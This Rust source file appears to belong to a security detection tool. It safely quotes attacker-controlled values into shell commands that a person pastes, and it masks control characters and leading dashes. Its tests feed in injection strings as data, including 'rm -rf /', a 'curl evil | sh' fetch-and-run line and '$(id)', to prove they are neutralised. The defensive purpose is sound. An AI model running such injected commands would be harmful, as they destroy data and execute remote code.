//! Commands for a person to paste, with values from records in them.
//!
//! Whoever is attacked copies these commands in a hurry, and the values may be the attacker's. So a
//! value stands in single quotes unless it is plainly harmless, and one that could do harm even there
//! — control characters, which a terminal obeys, or a leading dash, which the command takes for an
//! option — is not shown at all: its place is named instead.
//!
//! Source: POSIX.1-2017, *Shell Command Language*, section 2.2.2, *Single-Quotes*.

use std::borrow::Cow;

use crate::neutral::is_unseen;

/// The longest value that is put into a command, in bytes; the longest ARN has 2048.
const MAX: usize = 2048;

/// Puts values into the `${…}` places of `template`; `value` looks up what a place names.
///
/// Several values become several words. A value that is not safe becomes `'<name>'`, for the reader
/// to fill. `None` if there is no value for some place: then the command does not apply.
#[must_use]
pub fn fill<'v>(template: &str, value: impl Fn(&str) -> Vec<Cow<'v, str>>) -> Option<String> {
    let mut command = String::with_capacity(template.len());
    let mut rest = template;
    while let Some((before, place)) = rest.split_once("${") {
        let Some((name, behind)) = place.split_once('}') else {
            break;
        };
        command.push_str(before);
        let words: Vec<_> = value(name).iter().map(|value| word(name, value)).collect();
        if words.is_empty() {
            return None;
        }
        command.push_str(&words.join(" "));
        rest = behind;
    }
    command.push_str(rest);
    Some(command)
}

fn word(name: &str, value: &str) -> String {
    if is_safe(value) {
        quote(value).into_owned()
    } else {
        format!("'<{name}>'")
    }
}

/// `value` as one word of a POSIX shell.
///
/// ```
/// # use detect::shell::quote;
/// assert_eq!(quote("i-0abc"), "i-0abc");
/// assert_eq!(quote("it's; rm -rf /"), r"'it'\''s; rm -rf /'");
/// ```
#[must_use]
pub fn quote(value: &str) -> Cow<'_, str> {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"_-./:@=,+%".contains(&b);
    if !value.is_empty() && value.bytes().all(plain) {
        return Cow::Borrowed(value);
    }
    Cow::Owned(format!("'{}'", value.replace('\'', r"'\''")))
}

fn is_safe(value: &str) -> bool {
    // Characters that are not seen, or turn the writing around, hide what is pasted.
    let hidden = |c: char| c.is_control() || is_unseen(c);
    !value.is_empty() && value.len() <= MAX && !value.starts_with('-') && !value.contains(hidden)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn places_are_filled_and_quoted() {
        let values = |name: &str| match name {
            "name" => vec![Cow::Borrowed("main trail")],
            "region" => vec![Cow::Borrowed("eu-west-1")],
            "evil" => vec![Cow::Borrowed("x'; curl evil | sh #")],
            "dash" => vec![Cow::Borrowed("--profile=root")],
            "bell" => vec![Cow::Borrowed("a\u{7}\n")],
            "both" => vec![Cow::Borrowed("111122223333"), Cow::Borrowed("$(id)")],
            _ => vec![],
        };
        for (template, expected) in [
            (
                "start --name ${name} --region ${region}",
                Some("start --name 'main trail' --region eu-west-1"),
            ),
            (
                "x Values=${evil}",
                Some(r"x Values='x'\''; curl evil | sh #'"),
            ),
            ("x ${dash} ${bell}", Some("x '<dash>' '<bell>'")),
            ("x ${both}", Some("x 111122223333 '$(id)'")),
            ("x ${gone}", None),
            ("no ${end", Some("no ${end")),
        ] {
            assert_eq!(fill(template, values).as_deref(), expected);
        }
    }

    proptest! {
        #[test]
        fn a_shell_reads_back_what_was_quoted(value in "[ -~é]{0,20}") {
            let output = std::process::Command::new("sh")
                .arg("-c").arg(format!("printf %s {}", quote(&value))).output().unwrap();
            prop_assert_eq!(String::from_utf8(output.stdout).unwrap(), value);
        }
    }
}
